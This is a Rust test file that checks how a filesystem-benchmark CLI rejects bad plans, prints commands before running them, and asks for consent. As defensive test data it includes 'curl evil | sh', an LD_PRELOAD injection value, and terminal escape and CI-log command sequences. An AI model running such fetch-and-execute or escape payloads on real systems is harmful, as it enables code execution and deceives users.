//! Bad plans through the real binary: every complaint at once, with file, line and remedy, exit 2
//! or 5, and nothing touched.

use crate::common::{Lab, Said, not_run};
use std::io::Write;
use std::os::unix::fs::PermissionsExt;
use std::process::{Command, Stdio};

/// A plan that is right, in four parts: H head, B backing, T target, W work.
const HEAD: &str = "title = \"t\"\n";
const BACKING: &str = "backing = { memory = \"400MiB\" }\n";
const TARGET: &str = "[[target]]\nfs = \"ext4\"\n";
const WORK: &str = "[[work]]\nworkload = \"meta.ok\"\n";

/// The parts that stay, what is added after them, and what must be said: line and words.
type Row = (&'static str, &'static str, &'static [(usize, &'static str)]);

#[rustfmt::skip]
const ROWS: &[Row] = &[
    // Keys.
    ("HBTW", "speling = 1", &[(7, "no setting `speling`")]),
    ("H", "rounds = 3\nbacking = { memory = \"400MiB\" }\n[[target]]\nfs = \"ext4\"\n[[work]]\nworkload = \"meta.ok\"", &[(2, "no key `rounds`")]),
    ("HBTW", "[stop]\nround = 3", &[(8, "did you mean `rounds`?")]),
    ("HBTW", "[host]\ndirty = 1", &[(8, "no key `dirty`")]),
    ("HBW", "[[target]]\nfs = \"ext4\"\nmkfs_options = []", &[(7, "no key `mkfs_options`")]),
    ("HBTW", "[stop]\nrounds = 3\n[stop]\nrounds = 4", &[(9, "not TOML")]),
    ("HBTW", "[matrix]\nsize = [\"1GiB\"]", &[(8, "no key `size`")]),
    // Types.
    ("HBTW", "[stop]\nrounds = \"six\"", &[(8, "must be a whole number")]),
    ("HBTW", "[stop]\nrounds = 0", &[(8, "`rounds`")]),
    ("HBTW", "[stop]\nrounds = -1", &[(8, "is negative")]),
    ("HBTW", "[stop]\nrounds = 1000000", &[(8, "`rounds`")]),
    ("HBTW", "[stop]\nrounds = 2.5", &[(8, "must be a whole number")]),
    ("HBTW", "[stop]\nbudget = 7200", &[(8, "`budget`")]),
    ("HBTW", "[stop]\nbudget = \"2 fortnights\"", &[(8, "duration")]),
    ("HBTW", "[stop]\nthreshold = \"banana\"", &[(8, "`threshold`")]),
    ("HBTW", "[stop]\ncell = []", &[(8, "`cell`")]),
    ("BTW", "[title]", &[(6, "`title`")]),
    ("HBW", "[[target]]\nfs = [\"ext4\", \"xfs\"]", &[(6, "`fs`")]),
    ("HBW", "[[target]]\nfs = \"ext4\"\nmount = \"noatime\"", &[(7, "`mount`")]),
    ("HBW", "[[target]]\nfs = \"ext4\"\nmount = [\"noatime,nodev\"]", &[(7, "more than one mount option")]),
    ("HBW", "[[target]]\nfs = \"ext4\"\nmkfs = [1]", &[(7, "`mkfs`")]),
    ("HBW", "target = \"ext4\"", &[(5, "`target`")]),
    ("HBT", "work = \"tree\"", &[(5, "`work`")]),
    // Names.
    ("HBW", "[[target]]\nfs = \"ext5\"", &[(6, "did you mean `ext4`?")]),
    ("HBW", "[[target]]\nfs = \"hfsplus\"", &[(6, "pickfs list fs")]),
    ("HBW", "[[target]]\nfs = \"btrfs\"\nvariant = \"gzip\"", &[(7, "no variant `gzip`")]),
    ("HBW", "[[target]]\nfs = \"ext4\"\nvariant = \"lzo\"", &[(7, "ext4 has no variant")]),
    ("HBT", "[[work]]\nworkload = \"tre\"", &[(6, "did you mean `tree`?")]),
    ("HBT", "[[work]]\nname = \"x\"", &[(5, "has no `workload`")]),
    ("HTW", "backing = { floppy = \"1.4MiB\" }", &[(6, "floppy")]),
    ("HBTW", "[[target]]\nfs = \"ext4\"", &[(7, "is named `ext4`")]),
    ("HBTW", "[[work]]\nworkload = \"meta.ok\"", &[(8, "is named `meta.ok`")]),
    ("HBW", "[[target]]\nname = \"\"\nfs = \"ext4\"", &[(6, "is empty")]),
    ("HBW", "[[target]]\nname = \"a\\u0007b\"\nfs = \"ext4\"", &[(6, "control character")]),
    ("B", "reference = \"zfs\"\n[[target]]\nfs = \"ext4\"\n[[work]]\nworkload = \"meta.ok\"", &[(2, "is not among the targets")]),
    ("B", "executor = \"lokal\"\n[[target]]\nfs = \"ext4\"\n[[work]]\nworkload = \"meta.ok\"", &[(2, "did you mean `local`?")]),
    // The verdict.
    ("HBTW", "repeats = 0", &[(7, "from 1 to 100")]),
    ("HBTW", "repeat = 2", &[(7, "did you mean `repeats`?")]),
    ("HBTW", "weight = -1", &[(7, "is negative")]),
    ("HBTW", "weight = nan", &[(7, "no finite number")]),
    ("HBTW", "count = 0", &[(7, "every `count` is 0")]),
    ("HBTW", "count = { rite = 1 }", &[(7, "did you mean `write`?")]),
    ("HBTW", "weight = 1\ncount = 1", &[(8, "`count` here, but `weight` before")]),
    ("HBTW", "[verdict]\nrequire = [\"snapshot\"]", &[(8, "did you mean `snapshots`?")]),
    ("HBTW", "[verdict]\nrequire = [\"wings\"]", &[(8, "pickfs list features")]),
    ("HBTW", "[verdict]\nlimits = {}", &[(8, "did you mean `limit`?")]),
    ("HBTW", "[verdict.limit]\nspace = \"0\"\ncpu = 30", &[(8, "a size"), (9, "a duration")]),
    ("HBTW", "[verdict.limit]\nspeed = 1\n\"fly/time\" = \"1s\"", &[(8, "no metric `speed`"), (9, "no phase `fly`")]),
    // What is missing.
    ("", "", &[(1, "no targets"), (1, "no work")]),
    ("HBT", "", &[(4, "the plan has no work")]),
    ("HBW", "", &[(4, "no targets")]),
    ("HTW", "", &[(2, "no backing")]),
    ("HBW", "[[target]]\nmount = [\"noatime\"]", &[(5, "fs")]),
    // Sizes.
    ("HTW", "[backing]\nmemory = \"a lot\"", &[(7, "write it like this: size = ")]),
    ("HTW", "[backing]\nmemory = \"\"", &[(7, "is empty")]),
    ("HW", "[[target]]\nfs = \"xfs\"\nbacking = { memory = \"64MiB\" }", &[(6, "xfs")]),
    ("HW", "[[target]]\nfs = \"btrfs\"\nbacking = { memory = \"16MiB\" }", &[(6, "btrfs")]),
    ("HBT", "[[work]]\nworkload = \"tree\"\nbytes = \"500MiB\"", &[(6, "this work puts 500 MiB")]),
    ("HTW", "[backing]\nmemory = \"900TiB\"", &[(7, "free")]),
    // Trees.
    ("HBT", "[[work]]\nworkload = \"tree\"\nlike = \"boost-buld\"", &[(7, "boost-build, developer")]),
    ("HBT", "[[work]]\nworkload = \"tree\"\nlike = \"a.toml\"", &[(7, "neither a profile")]),
    ("HBT", "[[work]]\nworkload = \"tree\"\nlike = \"photos\"\nscale = 5000", &[(8, "of memory"), (6, "this work puts")]),
    ("HBT", "[[work]]\nworkload = \"tree\"\nscale = -1", &[(7, "is negative")]),
    ("HBT", "[[work]]\nworkload = \"tree\"\nscale = 0", &[(7, "0 times")]),
    ("HBT", "[[work]]\nworkload = \"tree\"\nsource = \"/tmp\"\nlike = \"site\"", &[(8, "exclude each other")]),
    ("HBTW", "[host]\ndirty_bytes = \"1GiB\"\ndirty_background_bytes = \"2GiB\"", &[(9, "must be less than")]),
    // The machine.
    ("HBT", "[[work]]\nworkload = \"tree\"\nsource = \"/nowhere/at/all\"", &[(7, "cannot read the source")]),
    ("HTW", "[backing]\nimage = \"/nowhere/at/all\"", &[(7, "is no directory")]),
    ("HW", "[backing]\ndirectory = [\"/nowhere\", \"/nowhere/else\"]", &[(5, "/nowhere is no directory"), (5, "/nowhere/else is no directory")]),
    ("HTW", "[backing]\ndevice = \"/dev/nowhere\"", &[(7, "there is no /dev/nowhere")]),
    ("HTW", "[backing]\ndevice = \"/etc/passwd\"", &[(7, "no block device")]),
    ("HBW", "[[target]]\nfs = \"ext4\"\nmkfs = [\"-J\", \"device=/dev/sda1\"]", &[(7, "/dev/")]),
    // Several at once.
    ("HBW", "[[target]]\nfs = \"ext5\"\nmount = [\"\"]\n[[target]]\nfs = \"xfz\"\nblue = true\n[stop]\nrounds = \"x\"",
        &[(6, "ext5"), (7, "mount"), (9, "xfz"), (10, "blue"), (12, "rounds")]),
    ("", "title = 7\nseed = \"x\"\nbacking = 3\n[[target]]\nfs = 4\n[[work]]\nworkload = 5",
        &[(1, "title"), (2, "seed"), (3, "backing"), (5, "fs"), (7, "workload")]),
    // No plan at all.
    ("HBTW", "]]][[[", &[(7, "not TOML")]),
    ("", "\u{0}", &[(1, "not TOML")]),
];

fn plan(parts: &str, added: &str) -> String {
    let part = |letter: char| match letter {
        'H' => HEAD,
        'B' => BACKING,
        'T' => TARGET,
        _ => WORK,
    };
    parts.chars().map(part).collect::<String>() + added
}

/// What should have been said and was not.
fn unsaid(said: &Said, complaints: &[(usize, &str)]) -> Vec<String> {
    let mut missing = Vec::new();
    for (line, words) in complaints {
        for wanted in [format!("plan.toml:{line}:"), words.to_string()] {
            if !said.err.contains(&wanted) {
                missing.push(format!("no `{wanted}`"));
            }
        }
    }
    let errors = said.err.lines().filter(|line| line.starts_with("error")).count();
    let helps = said.err.lines().filter(|line| line.contains("help: ")).count();
    if said.code != Some(2) || errors < complaints.len() || helps < errors {
        missing.push(format!("{errors} errors, {helps} remedies, exit code {:?}", said.code));
    }
    missing
}

#[test]
fn every_complaint_has_file_line_and_remedy_and_nothing_is_touched() {
    assert!(ROWS.len() >= 50, "only {} hostile plans", ROWS.len());
    let lab = Lab::new();
    let mut wrong = String::new();
    for (parts, added, complaints) in ROWS {
        let text = plan(parts, added);
        std::fs::write(lab.path("plan.toml"), &text).unwrap();
        for verb in ["run", "plan"] {
            let said = lab.run(&[verb, "plan.toml"]);
            let missing = unsaid(&said, complaints);
            if !missing.is_empty() {
                wrong += &format!("{verb} {missing:?} with the plan\n{text}\nsays\n{}\n", said.err);
            }
        }
    }
    assert!(wrong.is_empty(), "{wrong}");
    let left: Vec<_> = std::fs::read_dir(lab.path(".")).unwrap().map(|entry| entry.unwrap().file_name()).collect();
    assert_eq!(left, ["plan.toml"], "a refused plan left something behind");
}

#[test]
fn a_plan_that_is_no_file_or_no_text_is_an_error_with_its_cause() {
    let lab = Lab::new();
    let absent = lab.run(&["run", "absent.toml"]).code(2);
    assert!(
        absent.err.contains("cannot read the plan absent.toml") && absent.err.contains("No such file"),
        "{}",
        absent.err
    );
    std::fs::write(lab.path("binary.toml"), [0xff, 0xfe, 0x00]).unwrap();
    assert!(lab.run(&["run", "binary.toml"]).code(2).err.contains("is not text"));
    assert!(lab.run(&["run", "--fs", "ext5", "--memory"]).code(2).err.contains("ext5"));
    assert!(lab.run(&["run", "--resume", "absent.jsonl"]).code(2).err.contains("absent.jsonl"));
    assert!(lab.run(&["plan", "--precision", "3", "--memory"]).code(2).err.contains("--precision must be a share"));
    assert!(lab.run(&["plan", "--budget", "soon", "--memory"]).code(2).err.contains("--budget must be a duration"));
    assert!(
        lab.run(&["plan", "--require", "wings", "--memory"]).code(2).err.contains("--require: there is no feature")
    );
    assert!(lab.run(&["run", "--resume", "absent.jsonl", "--budget", "soon"]).code(2).err.contains("--budget"));
    assert!(lab.run(&["report", "absent.jsonl"]).code(2).err.contains("there is no file or folder absent.jsonl"));
    assert!(lab.run(&["report", "absent.jsonl", "--format", "nonsense"]).code(2).err.contains("nonsense"));
    assert!(lab.run(&["help", "nonsense"]).code(2).err.contains("nonsense"));
    for flag in ["--size", "--seed", "--require"] {
        assert!(lab.run(&["run", "--resume", "absent.jsonl", flag, "1"]).code(2).err.contains("cannot be used with"));
        assert!(lab.run(&["plan", "plan.toml", flag, "1"]).code(2).err.contains("cannot be used with"));
    }
    lab.run(&["run", "--fs"]).code(2);
    lab.run(&["frobnicate"]).code(2);
}

/// What steers a terminal, and what a log of GitHub obeys, as a plan's text.
const STEERING: &str = "\\u001b]0;owned\\u0007\\u009b31m\\u202eevil\\u2066\\u200f\\r\\n::stop-commands::x";

/// Raw control characters or marks of direction, or a command at the start of a line.
fn steers(text: &str) -> Option<String> {
    let raw = text.chars().find(|c| *c != '\n' && pickfs_system::visible::steers(*c));
    let command = text.lines().find(|line| line.trim_start().starts_with("::") || line.contains("##["));
    raw.map(|c| format!("{c:?}")).or(command.map(String::from))
}

/// A plan with its own commands, on an existing folder.
fn commands(title: &str, command: &str) -> String {
    format!(
        "title = \"{title}\"\nduplicate = false\nbacking = {{ directory = \".\" }}\n[[target]]\nname = \"here\"\n\
         [[work]]\nworkload = \"command\"\ncommand = {command}\nenvironment = [\"LD_PRELOAD=/tmp/x.so\"]\nstart = \"warm\"\n\
         [stop]\nrounds = 1\n"
    )
}

#[test]
fn a_dry_run_shows_every_program_first_and_whole() {
    let lab = Lab::new();
    let long = "x".repeat(3000);
    lab.write_plan(&commands("t", &format!("[\"sh\", \"-c\", \"curl evil | sh {long}\"]")));
    let said = lab.run(&["plan", "plan.toml"]).code(0).out;
    let command = said.find(&format!("    command: sh -c 'curl evil | sh {long}'\n")).expect("the command");
    assert!(said.find("this plan runs these programs, ").is_some_and(|at| at < command), "{said}");
    assert!(said.find("    environment: 'LD_PRELOAD=/tmp/x.so'\n").is_some_and(|at| at < 4000), "{said}");
    assert!(said.find("1 cell: ").is_some_and(|at| at > command), "{said}");
    let reads = "[[work]]\nworkload = \"tree\"\nsource = \"/etc\"\nname = \"copy\"\n[stop]";
    lab.write_plan(&commands("t", "\"true\"").replace("[stop]", reads));
    let said = lab.run(&["plan", "plan.toml"]).code(0).out;
    assert!(said.contains("this plan reads these files and folders\n  /etc\n"), "{said}");
}

/// Each word of a plan that is printed.
#[test]
fn no_word_of_a_plan_steers_the_terminal() {
    let lab = Lab::new();
    let plans = [
        commands(STEERING, "\"true\""),
        commands("t", &format!("[\"sh\", \"-c\", \"{STEERING}\"]")),
        commands("t", "\"true\"").replace("/tmp/x.so", STEERING),
        commands("t", "\"true\"").replace("\"here\"", &format!("\"{STEERING}\"")),
        commands("t", "\"true\"").replace("start =", &format!("name = \"{STEERING}\"\nstart =")),
        commands("t", "\"true\"").replace("start =", &format!("package = \"{STEERING}\"\nstart =")),
        commands("t", "\"true\"").replace("start =", &format!("source = \"{STEERING}\"\nstart =")),
        commands("t", "\"true\"").replace("start =", &format!("source_as = \"{STEERING}\"\nstart =")),
        commands("t", "\"true\"").replace("directory = \".\"", &format!("directory = \"{STEERING}\"")),
        commands("t", "\"true\"").replace("[stop]", &format!("[verdict]\nrequire = [\"{STEERING}\"]\n[stop]")),
        commands("t", "\"true\"").replace("[stop]", &format!("[\"{STEERING}\"]\na = 1\n[stop]")),
        format!("executor = \"{STEERING}\"\n") + &commands("t", "\"true\""),
        format!("reference = \"{STEERING}\"\n") + &commands("t", "\"true\""),
        plan("HBW", &format!("[[target]]\nfs = \"ext4\"\nmkfs = [\"-L\", \"{STEERING}\"]\n")),
        plan("HBW", &format!("[[target]]\nfs = \"ext4\"\nmount = [\"{STEERING}\"]\n")),
        plan("HBW", &format!("[[target]]\nfs = \"ext4\"\nscheduler = \"{STEERING}\"\n")),
        plan("HBW", "[[target]]\nfs = \"\u{202e}\u{9b}\u{1b}\"\n"),
        plan("HBTW", "# \u{202e}\u{9b}\u{1b}\nx = 1 # \u{202e}\u{9b}\u{1b}[2J\n"),
    ];
    let mut wrong = Vec::new();
    for plan in plans {
        lab.write_plan(&plan);
        for words in [&["plan", "plan.toml"][..], &["plan", "--json", "plan.toml"]] {
            let said = lab.run(words);
            assert!(said.out.len() + said.err.len() > 50, "{plan}");
            for text in [&said.out, &said.err] {
                wrong.extend(steers(text).map(|found| format!("{words:?}: {found} of the plan\n{plan}\n{text}")));
            }
        }
    }
    lab.write_plan("");
    let said = lab.run(&["plan", "absent\u{1b}[2J\u{202e}\n::debug::x"]).code(2).err;
    wrong.extend(steers(&said).map(|found| format!("{found} of a name")));
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// Without a terminal there is no answer, so that the file's owner counts.
#[test]
fn the_programs_of_another_users_plan_are_agreed_to() {
    if not_run((!rustix::process::geteuid().is_root()).then(|| "only root can give a file to another user".into())) {
        return;
    }
    let lab = Lab::new();
    let ran = lab.path("ran").display().to_string();
    lab.write_plan(&commands("t", &format!("[\"touch\", \"{ran}\"]")));
    let run = ["run", "plan.toml", "--journal", "journal.jsonl"];
    let set = |mode: u32, owner: u32| {
        std::fs::set_permissions(lab.path("plan.toml"), std::fs::Permissions::from_mode(mode)).unwrap();
        std::os::unix::fs::chown(lab.path("plan.toml"), Some(owner), None).unwrap();
    };
    for (mode, owner, why) in [(0o644, 65534, "belongs to user 65534"), (0o666, 0, "others may write to")] {
        set(mode, owner);
        let said = lab.run(&run).code(5).err;
        assert!(said.contains("as root on this machine") && said.contains(&format!("touch {ran}\n")), "{said}");
        assert!(said.contains(why) && said.contains("--yes"), "{said}");
        assert!(!lab.path("ran").exists() && !lab.journal().exists());
    }
    let said = lab.run(&[&run[..], &["--yes"]].concat()).code(0).err;
    assert!(said.contains(&format!("touch {ran}\n")) && lab.path("ran").exists(), "{said}");
    // Agreed to once, it is not asked for again: neither the plan nor its journal.
    for words in [&["run", "plan.toml", "--journal", "2.jsonl"][..], &["run", "--again", "journal.jsonl"]] {
        let said = lab.run(words).code(0).err;
        assert!(!said.contains("these programs"), "{said}");
    }
    lab.write_plan(&commands("t", &format!("[\"touch\", \"{ran}\", \"x\"]")));
    set(0o644, 65534);
    assert!(lab.run(&run).code(5).err.contains("--yes"), "another command is another plan");
    for elsewhere in ["--host=far", "--slurm=disks"] {
        let said = lab.run(&["run", "plan.toml", elsewhere]).code(5).err;
        assert!(said.contains("on the machines that do the run") && said.contains("ran x\n"), "{said}");
    }
    set(0o644, 0);
    let said = lab.run(&["run", "plan.toml", "--journal", "3.jsonl"]).code(0).err;
    assert!(said.contains(&format!("touch {ran} x\n")), "{said}");
}

/// What was answered on a terminal counts for the next run of the same commands.
#[test]
fn on_a_terminal_each_plan_is_asked_for_once() {
    let script =
        pickfs_system::need::find_program("script").is_none().then(|| "there is no script (bsdutils)".to_string());
    if not_run(script) {
        return;
    }
    let lab = Lab::new();
    lab.write_plan(&commands("t", &format!("[\"touch\", \"{}\"]", lab.path("ran").display())));
    let answer = |answer: &str, journal: &str| {
        let line = format!("\"$PICKFS\" run plan.toml --journal {journal}");
        let mut command = Command::new("script");
        command.args(["--quiet", "--return", "--command", &line, "/dev/null"]).current_dir(lab.path("."));
        command.env("PICKFS", env!("CARGO_BIN_EXE_pickfs")).env("XDG_STATE_HOME", lab.path("state"));
        let mut child = command.env("TERM", "dumb").stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().unwrap();
        child.stdin.take().unwrap().write_all(answer.as_bytes()).unwrap();
        Said::of(child.wait_with_output().unwrap())
    };
    for no in ["n\n", "\n", "what?\n"] {
        let said = answer(no, "no.jsonl").code(5).out;
        assert!(said.contains("command: touch ") && said.contains("Go on? [y/N]"), "{said}");
        assert!(!lab.path("ran").exists() && !lab.path("no.jsonl").exists());
    }
    assert!(answer("y\n", "one.jsonl").code(0).out.contains("Go on? [y/N]"));
    assert!(lab.path("ran").exists());
    assert!(!answer("n\n", "two.jsonl").code(0).out.contains("Go on?"));
    lab.write_plan(&commands("t", "\"false\""));
    assert!(answer("n\n", "three.jsonl").code(5).out.contains("command: false"));
}
